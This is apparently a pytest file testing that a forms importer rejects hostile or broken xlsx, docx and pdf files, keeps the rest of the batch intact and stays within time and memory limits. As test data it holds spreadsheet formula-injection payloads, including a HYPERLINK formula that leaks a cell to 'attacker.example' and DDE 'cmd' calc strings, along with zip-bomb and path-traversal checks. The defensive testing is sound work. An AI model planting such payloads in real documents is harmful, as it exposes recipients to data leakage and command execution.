"""Hostile and broken returned files: each rejected with its own reason, the rest of the batch imported exactly,
inputs untouched, within fixed limits of time and memory; hostile text stays text; a killed import spoils nothing."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import random
import re
import resource
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from aitk_forms import importer
from aitk_forms.formats import CODECS
from aitk_forms.importer import import_files
from aitk_forms.sample import sample_answers
from aitk_forms.validate import check_answers
from conftest import SMALL
from hostile_corpus import CORPUS, REPAIRABLE, part, rezip

AITK = Path(sys.executable).with_name("aitk-forms")
# (format, form, language, seed): valid returns mixed into the hostile batch
VALID = [("xlsx", "risk", "en", 1), ("docx", "risk", "en", 2), ("pdf", "risk", "en", 3),
         ("xlsx", "readiness", "ar", 4), ("docx", "workbook", "zh", 5), ("pdf", "readiness", "fr", 6)]  # fmt: skip
# Free text a respondent might type to attack whoever opens the reports.
HOSTILE_TEXT = {
    "xlsx": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "docx": "+cmd|' /C calc'!A0",
    "pdf": "@SUM(1+1)*cmd|' /C calc'!A0\x07\x1b[31m-red",
}
# The documented limits the whole mixed import must stay within (docs/security.md).
BATCH_SECONDS = 60
BATCH_PEAK_MB = 512


def fill(content, form_id, lang, fmt, seed, target, answers=None):
    form = content.form(form_id)
    blank = target.with_name(f"blank-{target.name}")
    CODECS[fmt].render(content, form, lang, blank)
    answers = answers if answers is not None else sample_answers(form, seed)
    CODECS[fmt].fill(content, form, lang, blank, target, answers)
    blank.unlink()
    return answers


def hostile_answers(form, fmt):
    answers = sample_answers(form, 40)
    answers.update(use_case_name=HOSTILE_TEXT[fmt], data_sources=["other"], other_sources="-2+3\n=1+1")
    return answers


@pytest.fixture(scope="module")
def batch(small_content, tmp_path_factory):
    """An inbox of valid, repairable, hostile-text and hostile files; what each must become."""
    tmp = tmp_path_factory.mktemp("hostile")
    inbox = tmp / "inbox"
    inbox.mkdir()
    expected = {}  # name -> (status, answers or reason words)
    for fmt, form_id, lang, seed in VALID:
        name = f"valid-{form_id}-{lang}.{fmt}"
        expected[name] = ("accepted", fill(small_content, form_id, lang, fmt, seed, inbox / name))
    valid = {fmt: (inbox / f"valid-risk-en.{fmt}").read_bytes() for fmt in ("xlsx", "docx", "pdf")}
    for seed, (name, (fmt, damage)) in enumerate(REPAIRABLE.items(), start=20):
        answers = fill(small_content, "risk", "en", fmt, seed, tmp / name)
        (inbox / name).write_bytes(damage((tmp / name).read_bytes()))
        expected[name] = ("accepted", answers)
    form = small_content.form("risk")
    for fmt in ("xlsx", "docx", "pdf"):
        name = f"hostile-text.{fmt}"
        answers = fill(small_content, "risk", "en", fmt, 0, inbox / name, hostile_answers(form, fmt))
        clean, problems = check_answers(form, answers)
        expected[name] = ("accepted_with_warnings" if problems else "accepted", clean)
    for name, (make, words) in CORPUS.items():
        (inbox / name).write_bytes(make(valid))
        expected[name] = ("rejected", words)
    return inbox, expected


@pytest.fixture(scope="module")
def imported(batch, tmp_path_factory):
    """The batch imported by the command line as a coordinator runs it, timed and measured."""
    inbox, expected = batch
    out = tmp_path_factory.mktemp("reports")
    before = hashes(inbox)
    started = time.monotonic()
    done = subprocess.run([str(AITK), "import", str(inbox), "--content", str(SMALL), "--out", str(out), "--json"],
                          capture_output=True, text=True, timeout=300)  # fmt: skip
    seconds = time.monotonic() - started
    peak_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    return expected, done, json.loads(done.stdout), out, before, hashes(inbox), seconds, peak_mb


def hashes(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}


def by_name(document: dict) -> dict[str, dict]:
    return {Path(f["path"]).name: f for f in document["files"]}


def test_the_corpus_holds_at_least_30_hostile_or_broken_files(batch):
    _, expected = batch
    assert sum(status == "rejected" for status, _ in expected.values()) >= 30


def test_the_mixed_import_ends_cleanly_without_a_traceback(imported):
    _, done, document, _, _, _, _, _ = imported
    assert done.returncode == 1, done.stderr  # 1: some files were rejected
    assert "Traceback" not in done.stderr
    assert document["summary"]["files"] == len(document["files"])


@pytest.mark.parametrize("name", sorted(CORPUS))
def test_each_bad_file_is_rejected_with_its_own_reason(imported, name):
    expected, _, document, _, _, _, _, _ = imported
    entry = by_name(document)[name]
    assert entry["status"] == "rejected"
    assert expected[name][1] in entry["reason"], entry["reason"]
    assert "could not be read (" not in entry["reason"]  # a specific reason, not the catch-all


def test_every_valid_file_is_imported_with_exact_answers(imported):
    expected, _, document, _, _, _, _, _ = imported
    files = by_name(document)
    for name, (status, answers) in expected.items():
        if status != "rejected":
            assert (files[name]["status"], files[name]["answers"]) == (status, answers), name


def test_inputs_are_left_untouched(imported):
    _, _, _, _, before, after, _, _ = imported
    assert before == after


def test_the_import_stays_within_the_documented_time_and_memory(imported):
    _, _, _, _, _, _, seconds, peak_mb = imported
    print(f"mixed import: {seconds:.1f} s, peak memory {peak_mb:.0f} MB")
    assert seconds < BATCH_SECONDS and peak_mb < BATCH_PEAK_MB


def test_hostile_text_is_stored_as_text_in_every_report(imported):
    expected, _, document, out, _, _, _, _ = imported
    with open(out / "import-log.csv", encoding="utf-8-sig") as handle:
        for row in csv.reader(handle):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
    with zipfile.ZipFile(out / "consolidated.xlsx") as book:
        sheets = [etree.fromstring(book.read(n)) for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not [f for sheet in sheets for f in sheet.iter(f"{main}f")], "a formula in the consolidated workbook"
    texts = " ".join(sheet.xpath("string(.)") for sheet in sheets)
    for fmt in ("xlsx", "docx"):
        assert HOSTILE_TEXT[fmt] in texts
    with zipfile.ZipFile(out / "report.docx") as report:
        assert not re.search(rb"<w:(instrText|fldSimple)\b", report.read("word/document.xml")), "a field in report.docx"
    assert document["files"] and by_name(document)["hostile-text.pdf"]["answers"]["use_case_name"] == (
        HOSTILE_TEXT["pdf"].replace("\x07", "").replace("\x1b", "")
    )


def test_names_inside_files_never_become_paths(imported, batch):
    _, _, _, out, _, _, _, _ = imported
    inbox, _ = batch
    assert {p.name for p in out.iterdir()} <= {"import-log.csv", "consolidated.xlsx", "report.docx", "report.pdf"}
    assert not any("evil" in str(p) for p in inbox.parent.rglob("*"))
    assert not Path("/tmp/evil").exists()


def slow_pdf(valid: bytes, fields: int) -> bytes:
    from hostile_corpus import DictionaryObject, NameObject, TextStringObject, pdf_rewrite

    def add(writer):
        listed = writer.root_object["/AcroForm"]["/Fields"]
        for index in range(fields):
            field = DictionaryObject({NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject(f"x{index}")})
            listed.append(writer._add_object(field))

    return pdf_rewrite(valid, add)


def test_a_file_that_reads_too_long_is_stopped_and_the_rest_are_read(small_content, batch, tmp_path, monkeypatch):
    inbox, _ = batch
    (tmp_path / "slow.pdf").write_bytes(slow_pdf((inbox / "valid-risk-en.pdf").read_bytes(), 4_900))
    (tmp_path / "fine.xlsx").write_bytes((inbox / "valid-risk-en.xlsx").read_bytes())
    monkeypatch.setattr(importer, "FILE_SECONDS", 0.05)
    started = time.monotonic()
    result = {Path(f.path).name: f for f in import_files(small_content, [tmp_path]).files}
    assert "took longer than" in result["slow.pdf"].reason and result["slow.pdf"].sha256
    assert result["fine.xlsx"].status == "accepted"
    assert time.monotonic() - started < 10


def test_a_file_that_needs_too_much_memory_fails_alone(batch, tmp_path):
    inbox, _ = batch
    valid = (inbox / "valid-risk-en.docx").read_bytes()
    rng = random.Random(5)
    paragraphs = b"".join(b'<w:p w:rsidR="%08X"/>' % rng.getrandbits(32) for _ in range(300_000))
    document = part(valid, "word/document.xml").replace(b"</w:body>", paragraphs + b"</w:body>")
    (tmp_path / "greedy.docx").write_bytes(rezip(valid, {"word/document.xml": document}))
    (tmp_path / "fine.docx").write_bytes(valid)
    # In a fresh process, as a coordinator runs it: the limit counts address space above the worker's
    # start, and a long-lived test process forks workers with freed-but-mapped memory to spare.
    script = (
        "import json, sys\nfrom pathlib import Path\nfrom aitk_forms import importer\n"
        "from aitk_forms.load import load_content\nimporter.FILE_MEMORY_BYTES = 24 * 1024 * 1024\n"
        f"files = importer.import_files(load_content({str(SMALL)!r}), [Path({str(tmp_path)!r})]).files\n"
        "print(json.dumps({Path(f.path).name: [f.status, f.reason] for f in files}))\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    result = json.loads(done.stdout)
    assert "memory" in result["greedy.docx"][1]
    assert result["fine.docx"][0] == "accepted"


REPORTS = ("import-log.csv", "consolidated.xlsx", "report.docx", "report.pdf")


def run_import(inbox: Path, out: Path) -> subprocess.Popen:
    command = [str(AITK), "import", str(inbox), "--content", str(SMALL), "--out", str(out)]
    return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def kill_when(process: subprocess.Popen, out: Path, moment: str) -> None:
    """SIGKILL the import at `moment`: a delay in seconds, or as soon as the temporary file of that report appears."""
    deadline = time.monotonic() + 120
    if moment[0].isdigit():
        time.sleep(float(moment))
    while not moment[0].isdigit() and not list(out.glob(f".{moment}.*.tmp")) and time.monotonic() < deadline:
        time.sleep(0.002)
    assert process.poll() is None, "the import ended before the moment to kill it"
    os.kill(process.pid, signal.SIGKILL)
    assert process.wait() == -signal.SIGKILL


@pytest.mark.parametrize("moment", ["0.5", "consolidated.xlsx", "report.docx", "report.pdf"])
def test_killing_the_import_at_any_moment_leaves_the_previous_reports_intact(batch, tmp_path, moment):
    inbox, _ = batch
    few, some = tmp_path / "few", tmp_path / "some"
    for folder, names in (
        (few, ["valid-risk-en.xlsx", "empty.xlsx"]),
        (some, [n for n in hashes(inbox) if "risk" in n or n.startswith("zip-bomb")]),
    ):
        folder.mkdir()
        for name in names:
            (folder / name).write_bytes((inbox / name).read_bytes())
    out = tmp_path / "report"
    assert run_import(few, out).wait(timeout=120) == 1
    previous = {name: (out / name).read_bytes() for name in REPORTS}
    kill_when(run_import(some, out), out, moment)
    for name in REPORTS:  # each report is the previous one, or a complete new one: never a partial file
        data = (out / name).read_bytes()
        assert data == previous[name] or complete(name, data), name
    assert moment[0].isdigit() or list(out.glob(".*.tmp"))  # a SIGKILL runs no cleanup: the temporary file is left
    assert run_import(some, out).wait(timeout=120) == 1
    assert not list(out.glob(".*.tmp"))  # the next run sweeps what the killed one left


def children(pid: int) -> set[int]:
    found = set()
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:  # the process ended meanwhile
            continue
        if int(fields[1]) == pid:
            found.add(int(stat.parent.name))
    return found


def test_killing_the_import_while_it_reads_leaves_no_reader_process_behind(batch, tmp_path):
    inbox, _ = batch
    process = run_import(inbox, tmp_path / "report")
    workers: set[int] = set()
    while not workers and process.poll() is None:
        workers = children(process.pid)
    os.kill(process.pid, signal.SIGKILL)
    process.wait()
    assert workers, "the import ended before its readers could be seen"
    deadline = time.monotonic() + 10
    while any(alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not any(alive(pid) for pid in workers)


def alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"  # a zombie has ended
    except OSError:
        return False


def complete(name: str, data: bytes) -> bool:
    if name.endswith(".pdf"):
        return data.rstrip().endswith(b"%%EOF")
    if name.endswith(".csv"):
        return data.endswith(b"\n") and data.count(b"\n") > 3
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.testzip() is None
